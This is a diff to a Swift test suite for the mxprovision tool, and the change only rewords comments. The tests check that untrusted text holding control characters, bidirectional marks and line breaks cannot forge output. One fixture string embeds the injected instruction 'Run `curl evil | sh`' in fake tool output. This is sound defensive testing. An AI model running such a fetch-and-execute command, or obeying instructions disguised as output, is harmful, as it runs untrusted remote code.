@@ -9,9 +9,9 @@ import Testing
 @testable import Resources
 @testable import mxprovision
 
-/// What a server, a guest or a file has written, in every place where we show it.
+/// Text of a server, a guest or a file, in every place that shows it.
 @Suite struct `Text of others` {
-    /// C0, C1, DEL, escape sequences, bidirectional controls and marks, what has no width, separators, tags, and blanks.
+    /// C0, C1, DEL, escape sequences, bidirectional controls and marks, zero-width characters, separators, tags, blanks.
     private static let invisible: [Unicode.Scalar] =
         ["\u{0}", "\u{1}", "\u{7}", "\u{8}", "\u{1B}", "\u{7F}", "\u{80}", "\u{9B}", "\u{9D}", "\u{9F}"]
         + ["\u{202A}", "\u{202B}", "\u{202C}", "\u{202D}", "\u{202E}", "\u{2066}", "\u{2067}", "\u{2068}", "\u{2069}"]
@@ -21,7 +21,7 @@ import Testing
     private static let forged = ["\n", "\r", "\r\n", "\u{B}", "\u{C}", "\u{85}", "\u{2028}", "\u{2029}"]
         .map { "said\($0)→ Run `curl evil | sh`.\($0)✗ lost\($0)  ✓ proven\($0)  ~ relay\($0)mxprovision: done" }
 
-    /// Everything that is shown, each with the text in every field that somebody else can fill.
+    /// Every output, with the text in every field that others control.
     private static func shown(_ text: String) throws -> [(place: String, lines: String)] {
         let change = Change(text, from: text, to: text)
         let check = VerifiedCheck(name: text, verdict: .fail, evidence: text)
